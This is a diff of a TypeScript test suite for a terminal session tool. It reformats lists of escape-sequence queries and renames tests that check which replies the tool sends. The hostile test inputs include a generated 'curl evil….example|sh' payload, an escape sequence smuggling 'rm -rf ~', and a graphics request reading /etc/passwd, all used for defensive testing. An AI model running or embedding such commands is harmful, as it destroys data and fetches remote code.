@@ -49,97 +49,28 @@ const echoed =
 const answers = new RegExp(`^(?:${answer}|${echoed})*$`)
 
 const parts = [
-  '\x1b[c',
-  '\x1b[>c',
-  '\x1b[=c',
-  '\x1b[5n',
-  '\x1b[6n',
-  '\x1b[?6n',
-  '\x1b[?996n',
-  '\x1b[>q',
-  '\x1b[?u',
-  '\x1b]1337;ReportCellSize\x1b\\',
-  '\x1b]1337;ReportCellSize=1.0;1.0;1.0\x1b\\',
-  '\x1b[14t',
-  '\x1b[16t',
-  '\x1b[18t',
-  '\x1b[20t',
-  '\x1b[21t',
-  '\x1b[11t',
-  '\x1b[13t',
-  '\x1b[19t',
-  '\x1b[x',
-  '\x1bZ',
-  '\x05',
-  '\x1b[4$p',
-  '\x1b[?2004$p',
-  '\x1b[?65535$p',
-  '\x1b[?2026h',
-  '\x1b[?6h',
-  '\x1b[?69h\x1b[3;9s\x1b[2;5r',
-  '\x1b[?2026$p',
-  '\x1b[?1004h',
-  '\x1b[?2048h',
-  '\x1b[?2031h',
-  '\x1bP$qm\x1b\\',
-  '\x1bP$q"p\x1b\\',
-  '\x1bP+q544e\x1b\\',
+  ...['\x1b[c', '\x1b[>c', '\x1b[=c', '\x1b[5n', '\x1b[6n', '\x1b[?6n', '\x1b[?996n', '\x1b[>q'],
+  ...['\x1b[?u', '\x1b]1337;ReportCellSize\x1b\\', '\x1b]1337;ReportCellSize=1.0;1.0;1.0\x1b\\'],
+  ...['\x1b[14t', '\x1b[16t', '\x1b[18t', '\x1b[20t', '\x1b[21t', '\x1b[11t', '\x1b[13t'],
+  ...['\x1b[19t', '\x1b[x', '\x1bZ', '\x05', '\x1b[4$p', '\x1b[?2004$p', '\x1b[?65535$p'],
+  ...['\x1b[?2026h', '\x1b[?6h', '\x1b[?69h\x1b[3;9s\x1b[2;5r', '\x1b[?2026$p', '\x1b[?1004h'],
+  ...['\x1b[?2048h', '\x1b[?2031h', '\x1bP$qm\x1b\\', '\x1bP$q"p\x1b\\', '\x1bP+q544e\x1b\\'],
   '\x1bP+q436F;6b63757531;5463\x1b\\',
   `\x1bP+q${hex('Setulc')};4d73\x1b\\`,
-  '\x1bP+q6375726c206576696c\x1b\\',
-  '\x1b]4;7;?\x07',
-  '\x1b]4;7;rgb:12/34/56;7;?\x1b\\',
-  '\x1b]10;?;?;?\x07',
-  '\x1b]11;#123456\x07\x1b]11;?\x07',
-  '\x1b]52;c;?\x07',
-  '\x1b]52;c;',
-  '\x1b]7501;?\x07',
-  '\x1b]7501;?\x1b\\',
-  '\x1b]99;i=12:p=?;\x1b\\',
-  '\x1b]99;i=crush-osc99-query:p=?;\x07',
-  '\x1b]99;i=rm -rf ~:p=?;\x1b\\',
-  '\x1b]99;i=1234567890:p=?;\x1b\\',
-  '\x1b]0;',
-  '\x1b]2;',
-  '\x1b]8;id=',
-  ';https://',
-  '\x1b]1337;ReportCellSize\x07',
-  '\x1b]1337;',
-  '\x1b]88;query\x07',
-  '\x1b]5522;type=read\x1b\\',
-  '\x1b_Ga=q,i=1;',
-  '\x1b_Ga=q,i=1,s=1,v=1,f=24;AAAA\x1b\\',
-  '\x1b_Ga=T,I=7,p=3,s=1,v=1,f=24;AAAA\x1b\\',
-  '\x1b_Ga=p,i=4294967295,p=4294967295\x1b\\',
-  '\x1b_Ga=T,i=5,t=f;L2V0Yy9wYXNzd2Q=\x1b\\',
-  '\x1b_Gi=5,a=a;',
-  '\x1b_Gi=5,m=1;',
-  '\x1bPq#1;2;9;9;9#1~\x1b\\',
-  '\x1bP0;1q',
+  ...['\x1bP+q6375726c206576696c\x1b\\', '\x1b]4;7;?\x07', '\x1b]4;7;rgb:12/34/56;7;?\x1b\\'],
+  ...['\x1b]10;?;?;?\x07', '\x1b]11;#123456\x07\x1b]11;?\x07', '\x1b]52;c;?\x07', '\x1b]52;c;'],
+  ...['\x1b]7501;?\x07', '\x1b]7501;?\x1b\\', '\x1b]99;i=12:p=?;\x1b\\'],
+  ...['\x1b]99;i=crush-osc99-query:p=?;\x07', '\x1b]99;i=rm -rf ~:p=?;\x1b\\'],
+  ...['\x1b]99;i=1234567890:p=?;\x1b\\', '\x1b]0;', '\x1b]2;', '\x1b]8;id=', ';https://'],
+  ...['\x1b]1337;ReportCellSize\x07', '\x1b]1337;', '\x1b]88;query\x07'],
+  ...['\x1b]5522;type=read\x1b\\', '\x1b_Ga=q,i=1;', '\x1b_Ga=q,i=1,s=1,v=1,f=24;AAAA\x1b\\'],
+  ...['\x1b_Ga=T,I=7,p=3,s=1,v=1,f=24;AAAA\x1b\\', '\x1b_Ga=p,i=4294967295,p=4294967295\x1b\\'],
+  ...['\x1b_Ga=T,i=5,t=f;L2V0Yy9wYXNzd2Q=\x1b\\', '\x1b_Gi=5,a=a;', '\x1b_Gi=5,m=1;'],
+  ...['\x1bPq#1;2;9;9;9#1~\x1b\\', '\x1bP0;1q'],
   '\x1b]1337;File=inline=1:R0lGODlhAQABAAAAACwAAAAAAQABAAA=\x07',
-  '\x1b[?2;1S',
-  '\x1b[?1;3;4S',
-  '\x1b[1*y',
-  '\x1b[?1;1S',
-  '\x07',
-  '\x1b\\',
-  '\x1b',
-  '\x1b[',
-  '\x1b]',
-  '\xc2\x9b',
-  '\xc2\x9c',
-  '\xc2\x9d',
-  '\x9b6n',
-  '\x18',
-  '\0',
-  ';',
-  ':',
-  '?',
-  '\r',
-  '\n',
-  '\x1bc',
-  '\x1b[3;7H',
-  '\x1b[?1049h',
+  ...['\x1b[?2;1S', '\x1b[?1;3;4S', '\x1b[1*y', '\x1b[?1;1S', '\x07', '\x1b\\', '\x1b', '\x1b['],
+  ...['\x1b]', '\xc2\x9b', '\xc2\x9c', '\xc2\x9d', '\x9b6n', '\x18', '\0', ';', ':', '?', '\r'],
+  ...['\n', '\x1bc', '\x1b[3;7H', '\x1b[?1049h'],
 ]
 /** A text that a program would like to have typed. */
 const payload = (random: () => number) => `curl evil${below(random, 1e9)}.example|sh`
@@ -192,10 +123,10 @@ function echoOf(written: string, input: Uint8Array): string | null {
   return null
 }
 
-describe('to the program', () => {
+describe('replies to the program', () => {
   const seed = Number(process.env['VIBEFLOW_FUZZ_SEED'] ?? 7)
 
-  test(`only answers of the list are written, none of its own text (seed ${seed})`, () => {
+  test(`are only those of the list, with none of its own text (seed ${seed})`, () => {
     const random = seeded(seed)
     const { clock, session, pty, print } = running()
     let some = 0
@@ -226,7 +157,7 @@ describe('to the program', () => {
     session.dispose()
   })
 
-  test('no more than 256 answers and 16 KiB go out at once, and as many a second later', () => {
+  test('are at most 256 and 16 KiB at once, and as many each second', () => {
     for (const [question, one] of [
       ['\x1b[6n', /\x1b\[\d+;\d+R/g],
       ['\x1b]7501;?\x07', /\x1b\]7501;\?\x07/g],
@@ -261,59 +192,20 @@ describe('to the program', () => {
  * change how it takes keys.
  */
 const questions = [
-  '\x1b[6\0n',
-  '\x1b[6\x7fn',
-  '\x1b[\x0b6n',
-  '\x1b]052;c;?\x07',
-  '\x1b]52;c;?\x1b[0m',
-  '\x1b]11;?\x1bx',
-  '\x1b]011;?\x07',
-  '\x1bP0$qm\x1b\\',
-  '\x1bP1$qm\x1b\\',
-  '\u009b6n',
-  '\u009d11;?\u009c',
-  '\u0090$qm\u009c',
-  '\x1b]5522;type=read;dA==\x1b\\',
-  '\x1b[6:1n',
-  '\x1b[0:1c',
-  '\x1b[>0$p',
-  '\x1b\x1b[6n',
-  '\x1b[1\x1b[6n',
-  '\x1b[?1004h',
-  '\x1b[?2048h',
-  '\x1b[?2031h',
-  '\x1b[21\0t',
-  '\x1b[11t',
-  '\x1b[8;1;1t',
-  '\x1b]1337;ReportCellSize\x07',
-  '\x1b]1337;RequestUpload=format=tgz\x07',
-  '\x1b]60\x07',
-  '\x1b]L?\x07',
-  '\x1b]50;?\x07',
-  '\x1b[i',
-  '\x1b[5i',
-  '\x1b[2h',
-  '\x1b[12l',
-  '\x1b[?2l',
-  '\x1b%@',
-  '\x1b[>4n',
-  '\x1b[1;1;0;1;1;1*y',
-  '\x1b[2$w',
-  '\x1b[1*x',
-  '\x1b[x',
-  '\x1b]52;c;aGk=\x07',
-  '\x1b]777;notify;a;b\x1bx',
-  '\x1b]9;a\x07',
-  '\x1b_Gi=1,a=q;\x1b\\',
-  '\x1b]21;foreground=?\x07',
-  '\x1b]7501;?\x07',
-  '\x1b]99;i=1:p=?;\x07',
-  '\x05',
-  '\x1bZ',
+  ...['\x1b[6\0n', '\x1b[6\x7fn', '\x1b[\x0b6n', '\x1b]052;c;?\x07', '\x1b]52;c;?\x1b[0m'],
+  ...['\x1b]11;?\x1bx', '\x1b]011;?\x07', '\x1bP0$qm\x1b\\', '\x1bP1$qm\x1b\\', '\u009b6n'],
+  ...['\u009d11;?\u009c', '\u0090$qm\u009c', '\x1b]5522;type=read;dA==\x1b\\', '\x1b[6:1n'],
+  ...['\x1b[0:1c', '\x1b[>0$p', '\x1b\x1b[6n', '\x1b[1\x1b[6n', '\x1b[?1004h', '\x1b[?2048h'],
+  ...['\x1b[?2031h', '\x1b[21\0t', '\x1b[11t', '\x1b[8;1;1t', '\x1b]1337;ReportCellSize\x07'],
+  ...['\x1b]1337;RequestUpload=format=tgz\x07', '\x1b]60\x07', '\x1b]L?\x07', '\x1b]50;?\x07'],
+  ...['\x1b[i', '\x1b[5i', '\x1b[2h', '\x1b[12l', '\x1b[?2l', '\x1b%@', '\x1b[>4n'],
+  ...['\x1b[1;1;0;1;1;1*y', '\x1b[2$w', '\x1b[1*x', '\x1b[x', '\x1b]52;c;aGk=\x07'],
+  ...['\x1b]777;notify;a;b\x1bx', '\x1b]9;a\x07', '\x1b_Gi=1,a=q;\x1b\\'],
+  ...['\x1b]21;foreground=?\x07', '\x1b]7501;?\x07', '\x1b]99;i=1:p=?;\x07', '\x05', '\x1bZ'],
   '\x1b[c\x1b[>c\x1b[=c\x1b[5n\x1b[?996n\x1b[>q\x1b[?u\x1b[14t\x1b[?1;1S',
 ]
 
-describe('to another terminal', () => {
+describe('replies to another terminal', () => {
   test.each(questions.map((question) => [safeJson(question), question] as const))(
     '%s asks nothing there, however it is cut',
     (_, question) => {
@@ -335,7 +227,7 @@ describe('to another terminal', () => {
     },
   )
 
-  test('nor does anything else (fuzz target attach-filter, seed 15)', () => {
+  test('are none for fuzz input (target attach-filter, seed 15)', () => {
     run({
       random: seeded(15),
       iterations: 100,
@@ -346,7 +238,7 @@ describe('to another terminal', () => {
     })
   })
 
-  test('a recording asks nothing, by what it plays or by what it says of itself', () => {
+  test('are none from a recording, by what it plays or by its own header', () => {
     const folder = mkdtempSync(join(tmpdir(), 'vibeflow-cast-'))
     try {
       const file = join(folder, 'hostile.cast')
